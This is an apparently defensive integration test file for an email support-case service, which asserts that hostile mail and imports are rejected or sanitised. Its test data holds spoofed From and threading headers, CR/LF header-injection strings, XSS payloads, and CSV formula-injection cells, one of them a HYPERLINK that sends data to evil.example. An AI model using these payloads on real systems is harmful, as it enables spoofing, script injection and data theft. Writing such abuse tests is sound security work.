// Chaos part 5, abuse: hostile mail through the real SMTP intake of the running service (in
// process, test database, the test directory plus a second entitled organisation), whatever we
// send caught by the real smtp-server sink. Each case's outcome is counted, asserted and recorded
// with figure('abuse', ...). The focused versions live in test/integration (engineer-mail,
// hardening-policy*, outgoing-hardening, loop-safety, own-bounces, org-admins, relay-delivery).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { simpleParser } from 'mailparser';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/config.js';
import { startService, type RunningService } from '../../src/cli/start-command.js';
import { silentLogger } from '../../src/log/logger.js';
import { importDirectory } from '../../src/directory/directory-store.js';
import { startSmtpSink, type SinkMessage, type SmtpSink } from '../support/smtp-sink.js';
import { createTestDatabase, type TestDatabase } from '../support/test-database.js';
import { loadTestDirectory } from '../support/directory-fixture.js';
import { buildMail } from '../support/mail-builder.js';
import { headerOf, outboxSettled, runCli, smtpUrl } from '../support/service-harness.js';
import { chaosScale, figure } from './figures.js';
import { feedSmtp, sendRaw } from './fuzz/smtp-feed.js';
import { startAutoResponder, type AutoResponder } from './fuzz/auto-responder.js';

const SUPPORT = 'support@casemail.localhost';
const ERIN = 'erin@vendor.example';
const SECRET = 'chaos-abuse-reply-token-secret';
const AUTHSERV = 'mx.casemail.localhost';
const FLOOD = chaosScale(1000, 200);
/** The service's defaults, spelled out: the caps are what the flood and the loop run into. */
const LIMITS = { maxNewCasesPerSenderPerHour: 20, maxAcknowledgementsPerSenderPerHour: 20, maxAutomaticMailPerAddressPerHour: 10 };
/** Auto-responders: a stranger's and two contacts', one of which answers with no thread at all. */
const RESPONDERS = { 'robot@loop.example': 'threaded', 'lou@acme.example': 'threaded', 'lia@acme.example': 'fresh' } as const;
const LOOPERS = Object.keys(RESPONDERS);

const rowId = (reply: string) => Number(/OK: \w+ (\d+)/.exec(reply)?.[1]);
const subjectOf = (m: SinkMessage) => headerOf(m.raw, 'Subject') ?? '';
const to = (who: string) => (m: SinkMessage) => m.rcptTo.map((r) => r.toLowerCase()).includes(who);
const headerLines = (raw: Buffer) => raw.subarray(0, raw.indexOf('\r\n\r\n')).toString('latin1').split('\r\n');

describe('abuse: hostile mail through the real intake, what we send caught at the sink', () => {
  let tdb: TestDatabase;
  let sink: SmtpSink;
  let service: RunningService;
  let responder: AutoResponder;
  const dirs: string[] = [];

  beforeAll(async () => {
    tdb = await createTestDatabase();
    await loadTestDirectory(tdb.db);
    // A second entitled organisation (for forged threading across organisations), and contacts of
    // their own for the loop and the flood, so one scenario's hourly counts do not cap another's.
    const extra = await importDirectory(tdb.db, {
      organisations: [{ key: 'initech', name: 'Initech', timeZone: 'UTC' }],
      contracts: [{ organisation: 'initech', product: 'Server', startsOn: '2026-01-01', endsOn: '2027-12-31' }],
      contacts: [
        { organisation: 'initech', address: 'ivan@initech.example', name: 'Ivan', role: 'contact', active: true },
        { organisation: 'acme', address: 'lou@acme.example', name: 'Lou', role: 'contact', active: true },
        { organisation: 'acme', address: 'lia@acme.example', name: 'Lia', role: 'contact', active: true },
        { organisation: 'acme', address: 'fred@acme.example', name: 'Fred Flood', role: 'contact', active: true },
        { organisation: 'acme', address: 'dora@acme.example', name: 'Dora', role: 'contact', active: true },
      ],
      engineers: [],
    });
    expect(extra.ok).toBe(true);
    responder = startAutoResponder(RESPONDERS, () => service.smtp!.port, SUPPORT);
    sink = await startSmtpSink({ onMessage: (m) => responder.onMessage(m) });
    const dataDir = mkdtempSync(path.join(tmpdir(), 'casemail-chaos-abuse-'));
    dirs.push(dataDir);
    const config = loadConfig({
      env: { SMTP_URL: smtpUrl(sink), REPLY_TOKEN_SECRET: SECRET },
      overrides: {
        dataDir, demoDirectory: false, logLevel: 'silent', trustAuthResultsFrom: AUTHSERV,
        smtpIntake: { enabled: true, host: '127.0.0.1', port: 0 }, imap: { mailboxes: [] }, outbox: { retryBaseSeconds: 0.2 },
        limits: LIMITS,
      },
    });
    service = await startService({ config, logger: silentLogger }, tdb);
  });
  afterAll(async () => {
    await service?.stop();
    await sink?.stop();
    await tdb?.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  // Byte for byte (nodemailer would turn a bare CR into a line break on the way); resolves with the reply text.
  const send = async (raw: Buffer, from: string, rcpt: string[] = [SUPPORT]) => (await sendRaw(service.smtp!.port, raw, { from, to: rcpt })).text;
  const waitOne = async (pred: (m: SinkMessage) => boolean): Promise<SinkMessage> => (await sink.waitFor((ms) => ms.some(pred), 20_000)).find(pred)!;

  /** A contact's new request; resolves with its case number, id, acknowledgement and the engineers' notification. */
  async function openCase(subject: string, from: string, body = 'The nightly export stops with error E42.\n') {
    const raw = buildMail({ from, subject, body });
    const address = /<(.+)>/.exec(from)?.[1] ?? from;
    expect(await send(raw, address)).toMatch(/OK: processed/);
    const id = headerOf(raw, 'Message-ID')!;
    const ack = await waitOne((m) => headerOf(m.raw, 'In-Reply-To') === id);
    const number = Number(/\[Case #(\d+)\]/.exec(subjectOf(ack))![1]);
    const notification = await waitOne((m) => to(ERIN)(m) && subjectOf(m).includes(`[Case #${number}] New case`));
    const c = await tdb.db.selectFrom('cases').select('id').where('number', '=', number).executeTakeFirstOrThrow();
    return { raw, id, number, caseId: c.id, ack, notification };
  }

  /** Messages that made it into the case: stored as processed on it. */
  async function acceptedInto(caseId: number, rowIds: number[]): Promise<number> {
    if (rowIds.length === 0) return 0;
    return (await tdb.db.selectFrom('messages').select('id').where('id', 'in', rowIds).where('case_id', '=', caseId).where('status', '=', 'processed').execute()).length;
  }

  async function participants(caseId: number): Promise<string[]> {
    return (await tdb.db.selectFrom('case_participants').select('address').where('case_id', '=', caseId).execute()).map((p) => p.address);
  }

  it('follow-ups from strangers carrying real case tags: 0 accepted into the case, 0 answered', async () => {
    const target = await openCase('Stranger target', 'Bob Builder <bob@acme.example>');
    const replyTo = headerOf(target.ack.raw, 'Reply-To')!;
    const ackId = headerOf(target.ack.raw, 'Message-ID')!;
    const strangers = Array.from({ length: 6 }, (_, i) => `mallory${i}@evil.example`);
    const shapes = [
      (s: string) => ({ raw: buildMail({ from: s, subject: `Re: [Case #${target.number}] Stranger target`, body: 'Any news?\n' }), rcpt: SUPPORT }),
      (s: string) => ({ raw: buildMail({ from: s, subject: 'Re: your case', inReplyTo: ackId, references: ackId, body: 'Let me in.\n' }), rcpt: SUPPORT }),
      (s: string) => ({ raw: buildMail({ from: s, to: replyTo, subject: 'status', body: 'Status?\n' }), rcpt: replyTo }),
      (s: string) => ({ raw: buildMail({ from: s, cc: 'bob@acme.example', subject: `[Case #${target.number}]`, references: `${target.id} ${ackId}`, body: 'Close this case.\n#close\n' }), rcpt: SUPPORT }),
      (s: string) => ({ raw: buildMail({ from: s, subject: `Re: [Case #${target.number}]`, inReplyTo: target.id, headers: { 'Reply-To': 'bob@acme.example', Sender: 'bob@acme.example' }, body: 'From Bob, really.\n' }), rcpt: SUPPORT }),
      (s: string) => ({ raw: buildMail({ from: `"bob@acme.example" <${s}>`, subject: `Re: [Case #${target.number}] Stranger target`, inReplyTo: ackId, body: 'It is me, Bob.\n' }), rcpt: SUPPORT }),
    ];
    const ids: number[] = [];
    for (const [i, shape] of shapes.entries()) {
      const { raw, rcpt } = shape(strangers[i]!);
      ids.push(rowId(await send(raw, strangers[i]!, [rcpt])));
    }
    await outboxSettled(tdb.db);
    const accepted = await acceptedInto(target.caseId, ids);
    const answered = sink.messages.filter((m) => m.rcptTo.some((r) => r.endsWith('@evil.example'))).length;
    const joined = (await participants(target.caseId)).filter((a) => a.endsWith('@evil.example')).length;
    const state = (await tdb.db.selectFrom('cases').select('state').where('id', '=', target.caseId).executeTakeFirstOrThrow()).state;
    figure('abuse', `stranger follow-ups with a real tag accepted (of ${ids.length})`, accepted, '0', accepted === 0);
    figure('abuse', 'strangers answered / joined the case', `${answered} / ${joined}`, '0 / 0', answered + joined === 0);
    expect(accepted).toBe(0);
    expect(answered).toBe(0);
    expect(joined).toBe(0);
    expect(state).not.toBe('closed');
  });

  it('forged In-Reply-To pointing at another organisation\'s case: 0 accepted', async () => {
    const target = await openCase('Cross-org target', 'Carol <carol@acme.example>');
    const ackId = headerOf(target.ack.raw, 'Message-ID')!;
    const forgeries = [
      buildMail({ from: 'Ivan <ivan@initech.example>', subject: 'Re: your case', inReplyTo: target.id, references: target.id, body: 'Let me in.\n' }),
      buildMail({ from: 'Ivan <ivan@initech.example>', subject: 'Re: update', inReplyTo: ackId, references: `${target.id} ${ackId}`, body: 'Any news?\n' }),
      buildMail({ from: 'Ivan <ivan@initech.example>', subject: `Re: [Case #${target.number}] Cross-org target`, inReplyTo: ackId, body: 'Me too.\n' }),
      buildMail({ from: 'Hank <hank@globex.example>', subject: 'Re: your case', inReplyTo: target.id, references: target.id, body: 'Let me in.\n' }),
      buildMail({ from: 'Ivan <ivan@initech.example>', to: headerOf(target.ack.raw, 'Reply-To')!, subject: 'Re: hello', body: 'Through the reply address.\n' }),
    ];
    const ids: number[] = [];
    for (const raw of forgeries) {
      const from = /<(.+)>/.exec(headerOf(raw, 'From')!)![1]!;
      ids.push(rowId(await send(raw, from, [headerOf(raw, 'To')!])));
    }
    await outboxSettled(tdb.db);
    const accepted = await acceptedInto(target.caseId, ids);
    const joined = (await participants(target.caseId)).filter((a) => !a.endsWith('@acme.example')).length;
    const leaked = sink.messages.filter((m) => (to('ivan@initech.example')(m) || to('hank@globex.example')(m)) && subjectOf(m).includes(`#${target.number}]`)).length;
    figure('abuse', `forged In-Reply-To from another organisation accepted (of ${ids.length})`, accepted, '0', accepted === 0);
    figure('abuse', 'other organisation joined / sent the case', `${joined} / ${leaked}`, '0 / 0', joined + leaked === 0);
    expect(accepted).toBe(0);
    expect(joined).toBe(0);
    expect(leaked).toBe(0);
  });

  it('quoted-@ and bare-CR From forgeries: 0 accepted as the contact', async () => {
    const target = await openCase('Forgery target', 'Dora <dora@acme.example>');
    const ackId = headerOf(target.ack.raw, 'Message-ID')!;
    const subject = `Re: [Case #${target.number}] Forgery target`;
    const raw = (from: string) => Buffer.from(`From: ${from}\r\nTo: ${SUPPORT}\r\nSubject: ${subject}\r\nMessage-ID: <forgery-${Math.random().toString(36).slice(2)}@evil.example>\r\n`
      + `In-Reply-To: ${ackId}\r\nReferences: ${ackId}\r\nDate: Mon, 30 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nPlease close it.\r\n#close\r\n`);
    const froms = [
      '"dora@acme.example"@evil.example',
      '"dora@acme.example" <mallory@evil.example>',
      '"dora@acme.example <mallory"@evil.example',
      'dora@acme.example\r<mallory@evil.example>',
      'mallory@evil.example\rFrom: dora@acme.example',
      '<mallory@evil.example>\r dora@acme.example',
      '"Dora\r" <dora@acme.example>@evil.example',
    ];
    const ids: number[] = [];
    for (const from of froms) ids.push(rowId(await send(raw(from), 'mallory@evil.example')));
    await outboxSettled(tdb.db);
    const rows = await tdb.db.selectFrom('messages').select(['id', 'from_address', 'status', 'case_id', 'status_reason']).where('id', 'in', ids).execute();
    const asDora = rows.filter((r) => r.from_address === 'dora@acme.example' && r.status === 'processed');
    const accepted = await acceptedInto(target.caseId, ids);
    const state = (await tdb.db.selectFrom('cases').select('state').where('id', '=', target.caseId).executeTakeFirstOrThrow()).state;
    figure('abuse', `quoted-@ / bare-CR From forgeries accepted (of ${froms.length})`, accepted + asDora.length, '0', accepted + asDora.length === 0);
    expect(rows).toHaveLength(froms.length);
    expect(asDora.map((r) => r.id)).toEqual([]);
    expect(accepted).toBe(0);
    expect(state).not.toBe('closed');
  });

  it('forged bounces: 0 contacts marked bouncing', async () => {
    const victims = ['bob@acme.example', 'carol@acme.example', 'ada@acme.example'];
    const support = SUPPORT.split('@');
    const forged = [
      { from: '', rcpt: SUPPORT, raw: buildMail({ from: 'mailer-daemon@evil.example', subject: 'Undelivered Mail Returned to Sender', headers: { 'X-Failed-Recipients': victims.join(', ') }, body: `This is a permanent error.\n\n  ${victims[0]}\n    550 5.1.1 user unknown\n` }) },
      { from: '', rcpt: `${support[0]}+bounce-1.00000000000000000000@${support[1]}`, raw: buildMail({ from: 'MAILER-DAEMON <mailer-daemon@mx.evil.example>', to: `${support[0]}+bounce-1.00000000000000000000@${support[1]}`, subject: 'Mail delivery failed', headers: { 'X-Failed-Recipients': victims[1]! }, body: `A message could not be delivered.\n\n  ${victims[1]}\n    550 5.1.1 mailbox unavailable\n` }) },
      { from: '', rcpt: SUPPORT, raw: Buffer.from(`From: Mail Delivery System <MAILER-DAEMON@mx.evil.example>\r\nTo: ${SUPPORT}\r\nSubject: Delivery Status Notification (Failure)\r\nMessage-ID: <dsn-${Date.now()}@mx.evil.example>\r\nDate: Mon, 30 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary="r"\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\nDelivery failed.\r\n--r\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.evil.example\r\n\r\nFinal-Recipient: rfc822; ${victims[2]}\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 user unknown\r\n\r\n--r\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <made-up@casemail.localhost>\r\nTo: ${victims[2]}\r\n\r\n--r--\r\n`) },
      { from: 'mailer-daemon@evil.example', rcpt: SUPPORT, raw: buildMail({ from: 'postmaster@acme.example', subject: 'Returned mail: see transcript', inReplyTo: '<not-ours@casemail.localhost>', body: `----- The following addresses had permanent fatal errors -----\n<${victims[0]}>\n550 5.1.1 unknown user\n` }) },
    ];
    for (const f of forged) expect(await send(f.raw, f.from, [f.rcpt])).toMatch(/OK/);
    const marked = await tdb.db.selectFrom('contacts').select('address').where('bouncing_since', 'is not', null).execute();
    figure('abuse', `contacts marked bouncing by forged bounces (${forged.length} sent)`, marked.length, '0', marked.length === 0);
    expect(marked).toEqual([]);
  });

  it('CR/LF header injection through subjects and names: no injected header in any mail we send', async () => {
    const q = (s: string) => `=?utf-8?B?${Buffer.from(s).toString('base64')}?=`;
    const inj = 'Bcc: victim@injected.example\r\nX-Injected: 1';
    const raws = [
      buildMail({ from: `${q(`Carol\r\n${inj}`)} <carol@acme.example>`, subject: q(`Export\r\n${inj}\nCc: victim2@injected.example`) }),
      buildMail({ from: `=?utf-8?Q?Carol=0D=0ABcc:_victim@injected.example?= <carol@acme.example>`, subject: '=?utf-8?Q?Import=0D=0AX-Injected:_2=0A=0ABody?=' }),
      Buffer.from(`From: "Carol\rX-Injected: 3" <carol@acme.example>\r\nTo: ${SUPPORT}\r\nSubject: Report\rBcc: victim@injected.example\rX-Injected: 4\r\nMessage-ID: <inj-${Date.now()}@acme.example>\r\nDate: Mon, 30 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nThe report is empty.\r\n`),
    ];
    // A bare CR in a name may leave the sender doubtful (held, the assignee told); the others open cases and are answered.
    const answered: string[] = [];
    for (const raw of raws) {
      const reply = await send(raw, 'carol@acme.example');
      expect(reply).toMatch(/OK: (processed|held)/);
      if (/OK: processed/.test(reply)) answered.push(headerOf(raw, 'Message-ID')!);
    }
    expect(answered.length).toBeGreaterThanOrEqual(2);
    await sink.waitFor((ms) => answered.every((id) => ms.some((m) => headerOf(m.raw, 'In-Reply-To') === id)), 20_000);
    await outboxSettled(tdb.db);
    // Checked over everything the sink got in this run so far, not only these answers.
    const injected = sink.messages.filter((m) => headerLines(m.raw).some((l) => /^(bcc|x-injected[\w-]*):/i.test(l)) || m.rcptTo.some((r) => r.endsWith('@injected.example')));
    figure('abuse', `outgoing mails with an injected header (of ${sink.messages.length})`, injected.length, '0', injected.length === 0);
    expect(injected.map((m) => headerLines(m.raw).join('\n'))).toEqual([]);
  });

  it('script and event handlers in a relayed engineer reply: sanitised in what the customer gets', async () => {
    const target = await openCase('Relay target', 'Ada Admin <ada@acme.example>');
    const nid = headerOf(target.notification.raw, 'Message-ID')!;
    const b = 'relay-b';
    const html = '<div onclick="steal()">Hello Ada,<br>please update to 4.2.1.<img src="x" onerror="alert(1)"><script>alert(2)</script>'
      + '<a href="javascript:alert(3)">details</a><iframe src="https://evil.example/"></iframe><svg onload="alert(4)"></svg>'
      + '<p style="background:url(https://evil.example/t.png)">Erin</p><form action="https://evil.example/"><input name="pw"></form></div>';
    const raw = Buffer.from(`From: Erin Engineer <${ERIN}>\r\nTo: ${headerOf(target.notification.raw, 'Reply-To')}\r\nSubject: Re: ${subjectOf(target.notification)}\r\n`
      + `Message-ID: <relay-${Date.now()}@vendor.example>\r\nIn-Reply-To: ${nid}\r\nReferences: ${nid}\r\nDate: Mon, 30 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n`
      + `Content-Type: multipart/alternative; boundary="${b}"\r\n\r\n--${b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello Ada,\r\nplease update to 4.2.1.\r\nErin\r\n`
      + `--${b}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>${html}</body></html>\r\n--${b}--\r\n`);
    expect(await send(raw, ERIN)).toMatch(/OK: processed/);
    const relay = await waitOne((m) => to('ada@acme.example')(m) && m !== target.ack && subjectOf(m).includes(`[Case #${target.number}]`) && headerOf(m.raw, 'Auto-Submitted') === null);
    const parsed = await simpleParser(relay.raw);
    const out = typeof parsed.html === 'string' ? parsed.html : '';
    const unsafe = out.match(/<script|<iframe|<svg|<form|<input|\son\w+\s*=|javascript:|url\(/gi) ?? [];
    figure('abuse', 'unsafe HTML constructs in the relayed reply', unsafe.length, '0', unsafe.length === 0);
    expect(parsed.text).toContain('please update to 4.2.1');
    expect(unsafe).toEqual([]);
  });

  it('handlebars syntax in customer text is rendered literally', async () => {
    const moustache = ['{{secret}}', '{{{x}}}', '{{#each contacts}}', '{{/each}}', '{{> partial}}', '{{!comment}}', '{{lookup . "constructor"}}'];
    const target = await openCase(`Help with {{secret}} and {{{x}}}`, 'Ada Admin <ada@acme.example>', `${moustache.join(' ')}\nThe template above is our text.\n`);
    const parsedAck = await simpleParser(target.ack.raw);
    const parsedNote = await simpleParser(target.notification.raw);
    const inSubject = ['{{secret}}', '{{{x}}}'].every((s) => (parsedAck.subject ?? '').includes(s));
    const inNotification = moustache.filter((s) => parsedNote.text?.includes(s)).length;
    figure('abuse', 'handlebars syntax rendered literally (subject / notification text)', `${inSubject ? 'yes' : 'no'} / ${inNotification} of ${moustache.length}`, 'yes / all', inSubject && inNotification === moustache.length);
    expect(inSubject).toBe(true);
    expect(moustache.filter((s) => !parsedNote.text?.includes(s))).toEqual([]);
  });

  it('backscatter: a stranger failing authentication at our trusted server gets no notice; one passing does', async () => {
    const forgedVictims = ['victim1@backscatter.example', 'victim2@backscatter.example', 'victim3@backscatter.example'];
    const failing = [
      (a: string) => `${AUTHSERV}; spf=fail smtp.mailfrom=${a.split('@')[1]}; dkim=none; dmarc=fail header.from=${a.split('@')[1]}`,
      (a: string) => `${AUTHSERV}; dkim=fail header.d=${a.split('@')[1]}; spf=softfail smtp.mailfrom=${a}`,
      (a: string) => `${AUTHSERV}; dmarc=fail (p=reject) header.from=${a.split('@')[1]}`,
    ];
    for (const [i, victim] of forgedVictims.entries()) {
      expect(await send(buildMail({ from: victim, subject: 'Win a prize', headers: { 'Authentication-Results': failing[i]!(victim) } }), victim)).toMatch(/OK: held/);
    }
    // The control: a genuine stranger (passing) is told how to get support, so a notice would have been sent.
    const genuine = 'newcomer@passing.example';
    expect(await send(buildMail({ from: genuine, subject: 'How do I get support?', headers: { 'Authentication-Results': `${AUTHSERV}; spf=pass smtp.mailfrom=passing.example; dmarc=pass header.from=passing.example` } }), genuine)).toMatch(/OK: held/);
    await waitOne(to(genuine));
    await outboxSettled(tdb.db);
    const backscatter = sink.messages.filter((m) => m.rcptTo.some((r) => r.endsWith('@backscatter.example'))).length;
    figure('abuse', `backscatter notices to forged senders (of ${forgedVictims.length})`, backscatter, '0', backscatter === 0);
    expect(backscatter).toBe(0);
  });

  it('a loop with an auto-responder that ignores Auto-Submitted is bounded', async () => {
    expect(await send(buildMail({ from: 'Robot <robot@loop.example>', subject: 'Hello' }), 'robot@loop.example')).toMatch(/OK: held/);
    expect(await send(buildMail({ from: 'Lou <lou@acme.example>', subject: 'Printer on fire' }), 'lou@acme.example')).toMatch(/OK: processed/);
    expect(await send(buildMail({ from: 'Lia <lia@acme.example>', subject: 'Scanner jammed' }), 'lia@acme.example')).toMatch(/OK: processed/);
    // Quiet: nothing pending in the outbox and no answer on its way, twice in a row a moment apart.
    await expect.poll(async () => {
      const pending = await tdb.db.selectFrom('outbox').select('id').where('status', '=', 'pending').execute();
      return pending.length + responder.inFlight();
    }, { timeout: 60_000, interval: 250 }).toBe(0);
    const before = LOOPERS.map((a) => responder.received(a));
    await outboxSettled(tdb.db);
    await expect.poll(() => responder.inFlight(), { timeout: 20_000 }).toBe(0);
    const counts = LOOPERS.map((a) => responder.received(a));
    const bound = LIMITS.maxAutomaticMailPerAddressPerHour;
    for (const [i, a] of LOOPERS.entries()) figure('abuse', `loop mails to auto-responder ${a}`, counts[i]!, `<= ${bound}`, counts[i]! <= bound);
    figure('abuse', 'auto-responder answers fed back', responder.sent());
    expect(responder.errors()).toEqual([]);
    expect(counts).toEqual(before);
    for (const c of counts) expect(c).toBeLessThanOrEqual(bound);
    expect(Math.max(...counts)).toBeGreaterThan(0);
  });

  it(`a flood of ${FLOOD} requests from one entitled address is capped and visible`, async () => {
    const raws = Array.from({ length: FLOOD }, (_, i) => buildMail({ from: 'Fred Flood <fred@acme.example>', subject: `Flood ${i}`, messageId: `<flood-${i}-${Date.now()}@acme.example>` }));
    const outcomes = await feedSmtp(service.smtp!.port, raws, () => ({ from: 'fred@acme.example', to: [SUPPORT] }));
    const accepted = outcomes.filter((o) => o.kind === 'accepted');
    expect(accepted).toHaveLength(FLOOD);
    await outboxSettled(tdb.db);
    const toFred = sink.messages.filter(to('fred@acme.example')).length;
    const rows = await tdb.db.selectFrom('messages').select(['status', 'status_reason']).where('from_address', '=', 'fred@acme.example').where('direction', '=', 'inbound').execute();
    // Past the acknowledgement cap the message row says so; below it, past the automatic-mail
    // limit, the acknowledgement's outbox row is held back with the limit as its error.
    const visibleRows = rows.filter((r) => /maxAcknowledgementsPerSenderPerHour/.test(r.status_reason ?? '')).length;
    const heldBack = await tdb.db.selectFrom('outbox').select(['status', 'last_error']).where('kind', '=', 'acknowledgement')
      .where(sql`to_addresses::text`, 'like', '%fred@acme.example%').where('status', '!=', 'sent').execute();
    const visibleOutbox = heldBack.filter((o) => /maxAutomaticMailPerAddressPerHour/.test(o.last_error ?? '')).length;
    const visible = visibleRows + visibleOutbox;
    const cap = Math.min(LIMITS.maxAcknowledgementsPerSenderPerHour, LIMITS.maxAutomaticMailPerAddressPerHour);
    const engineerMail = sink.messages.filter((m) => m.rcptTo.some((r) => r.endsWith('@vendor.example')) && /Flood \d+/.test(subjectOf(m))).length;
    figure('abuse', `flood: messages stored (of ${FLOOD})`, rows.length, String(FLOOD), rows.length === FLOOD);
    figure('abuse', 'flood: mails sent to the flooding address', toFred, `<= ${cap}`, toFred <= cap);
    figure('abuse', 'flood: stored with the cap as their reason', visible, `>= ${FLOOD - cap}`, visible >= FLOOD - cap);
    figure('abuse', 'flood: engineer notifications sent', engineerMail);
    expect(rows).toHaveLength(FLOOD);
    expect(toFred).toBeLessThanOrEqual(cap);
    expect(toFred).toBeGreaterThan(0);
    expect(visible).toBeGreaterThanOrEqual(FLOOD - cap);
  });

  it('a directory import with formula injection and malformed rows: rejected with line numbers, nothing imported; export emits no live formula', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'casemail-chaos-directory-'));
    dirs.push(dir);
    const env = { DATABASE_URL: tdb.url };
    const count = async () => {
      const n = await Promise.all((['organisations', 'contracts', 'contacts', 'engineers'] as const).map(async (t) => (await tdb.db.selectFrom(t).select('id').execute()).length));
      return n.join('/');
    };
    const header = 'type,organisation,name,address,role,active,team,product,starts_on,ends_on,time_zone';
    const formulas = [
      'organisation,evilcorp,"=cmd|\' /C calc\'!A0",,,,,,,,UTC',
      'contract,evilcorp,,,,,,"+SUM(1+1)*cmd|\' /C calc\'!A0",2026-01-01,2027-12-31,',
      'contact,evilcorp,"-2+3+cmd|\' /C calc\'!A0",eve@evilcorp.example,contact,true,,,,,',
      'contact,evilcorp,"@SUM(1+1)*cmd|\' /C calc\'!A0",eve2@evilcorp.example,contact,true,,,,,',
      'engineer,,"=HYPERLINK(""https://evil.example/?""&A1,""x"")",mal@vendor.example,engineer,true,"=1+1",,,,',
    ];
    const malformed = [
      'contact,evilcorp,Nobody,not-an-address,contact,true,,,,,',
      'contract,evilcorp,,,,,,Server,2027-13-45,2026-01-01,',
      'contact,nowhere-org,X,x@x.example,overlord,maybe,,,,,',
      'gadget,evilcorp,Thing,,,,,,,,',
      'contact,evilcorp',
    ];
    const before = await count();
    const mixed = path.join(dir, 'mixed.csv');
    writeFileSync(mixed, [header, ...formulas, ...malformed].join('\n') + '\n');
    const bad = await runCli(['directory', 'import', mixed], env);
    const afterBad = await count();
    const named = malformed.map((_, i) => formulas.length + 2 + i).filter((line) => new RegExp(`line ${line}\\b`).test(bad.stderr));
    figure('abuse', 'directory import with malformed rows: exit code / rows named', `${bad.code} / ${named.length} of ${malformed.length}`, 'non-zero / all', bad.code !== 0 && named.length === malformed.length);
    figure('abuse', 'directory rows changed by the rejected import', before === afterBad ? 0 : `${before} -> ${afterBad}`, '0', before === afterBad);
    expect(bad.code).not.toBe(0);
    expect(bad.stderr).toMatch(/nothing was changed/);
    expect(named).toHaveLength(malformed.length);
    expect(afterBad).toBe(before);

    // Formula-looking cells alone: either refused clearly or imported as plain text, never emitted as live formulas.
    const onlyFormulas = path.join(dir, 'formulas.csv');
    writeFileSync(onlyFormulas, [header, ...formulas].join('\n') + '\n');
    const imported = await runCli(['directory', 'import', onlyFormulas], env);
    const afterFormulas = await count();
    if (imported.code !== 0) expect(afterFormulas).toBe(before);
    const exported = await runCli(['directory', 'export', '--format', 'csv'], env);
    expect(exported.code).toBe(0);
    const cells = exported.stdout.split(/\r?\n/).slice(1).flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)/g) ?? [])
      .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    figure('abuse', 'formula import: outcome', imported.code === 0 ? 'imported as text' : 'refused');
    figure('abuse', 'live formulas in directory export', live.length, '0', live.length === 0);
    expect(live).toEqual([]);
    if (imported.code === 0) expect(exported.stdout).toContain('cmd|');
  });
});
